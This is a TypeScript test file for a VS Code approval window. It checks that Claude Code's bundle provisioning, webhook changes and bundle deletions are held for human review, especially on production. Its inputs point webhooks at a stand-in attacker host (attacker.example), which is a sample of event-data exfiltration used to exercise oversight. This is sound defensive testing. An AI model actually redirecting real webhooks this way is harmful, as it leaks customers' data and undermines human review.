// What does not fit a dialog is approved only after its review.
import assert from 'node:assert/strict';
import type { VsCode } from '../support/vsCode.ts';
import { useApprovalWindow, type ApprovalWindow } from './approvalWindow.ts';
import { quickInput } from './provisioning.ts';

describe('what does not fit a dialog', () => {
  let window: ApprovalWindow;
  let vsCode: VsCode;

  useApprovalWindow('approval-reviews', (opened) => {
    window = opened;
    ({ vsCode } = opened);
  });

  it('[provision.disclosed] shows where events go, and is approved after its review if it is long', async () => {
    const webhook_base_url = `https://attacker.example/${'collect/'.repeat(30)}`;
    const place = { name: 'billing', provider: 'sandbox', environment: 'production' };
    const call = window.call('provision_bundle', { ...place, inputs: { webhook_base_url } });
    const asked = await vsCode.waitForModal();
    assert.match(asked.detail, /\+ Webhook “Messages”: https:\/\/attacker\.example/);
    assert.ok(!asked.buttons.includes('Approve'), asked.detail);
    await vsCode.pressModalButton('Review…');
    const sides = vsCode.page.locator('.monaco-diff-editor .view-lines');
    await sides.filter({ hasText: 'attacker.example' }).first().waitFor();
    await window.pressTitleButton('Approve');
    assert.ok(!(await vsCode.waitForModal()).buttons.includes('Approve'), 'nobody can have read it yet');
    await vsCode.page.keyboard.press('Escape');
    await window.readReview();
    await window.pressTitleButton('Approve');
    await window.decide('Approve');
    assert.equal((await call).output['status'], 'completed');
  });

  it('[gates.whole] [gates.apart] of different tools have no Approve in common, but a review and a dialog each', async () => {
    const bundle = await window.oneUntouched('development');
    const live = await window.oneUntouched('production');
    const { output } = await window.call('get_bundle', { bundle_id: live.id });
    const [webhook] = output['webhooks'] as { id: string }[];
    const change = { bundle_id: live.id, webhook_id: webhook?.id, new_url: 'https://attacker.example/in' };
    const deletion = window.call('delete_bundle', { bundle_id: bundle.id });
    const changed = window.call('update_webhook_url', change);
    const both = await vsCode.waitForModal();
    assert.equal(both.message, 'Allow Claude Code to do 2 different things?');
    assert.deepEqual(both.buttons.toSorted(), ['Decide Later', 'Reject', 'Review…']);
    await vsCode.pressModalButton('Review…');
    const review = vsCode.page.locator('.monaco-editor .view-lines');
    await review.filter({ hasText: 'attacker.example' }).first().waitFor();
    await quickInput(vsCode, /Different Requests/).waitFor();
    await vsCode.screenshot('approvals-different');
    await vsCode.typeInInput('delete bundle');
    const { message } = await window.decide('Approve');
    assert.match(message, /^Allow Claude Code to delete a bundle/);
    assert.equal((await deletion).output['status'], 'completed');
    const last = await vsCode.waitForModal();
    assert.match(last.message, /^Allow Claude Code to change where a webhook/);
    assert.ok(last.detail.includes('https://attacker.example/in'), last.detail);
    await window.decide('Reject');
    await quickInput(vsCode, /Reject/).waitFor();
    await vsCode.page.keyboard.press('Escape');
    assert.equal((await changed).output['status'], 'denied');
  });

  it('[gates.whole] of which one is live have no Approve before their review', async () => {
    const live = await window.oneUntouched('production');
    const other = await window.oneUntouched('staging');
    const calls = [live, other].map(({ id }) => window.call('delete_bundle', { bundle_id: id }));
    const { buttons } = await vsCode.waitForModal();
    assert.deepEqual(buttons.toSorted(), ['Decide Later', 'Reject', 'Review…']);
    await vsCode.pressModalButton('Review…');
    await quickInput(vsCode, /Approve 1 of 2…/).waitFor();
    const review = vsCode.page.locator('.monaco-editor .view-lines');
    await review.filter({ hasText: live.name }).first().waitFor();
    await vsCode.page.keyboard.press('Enter');
    const last = await window.decide('Approve');
    assert.equal(last.message, 'Delete a bundle, keep 1?');
    const results = await Promise.all(calls);
    assert.deepEqual(
      results.map(({ output }) => output['status']),
      ['denied', 'completed'],
    );
  });
});
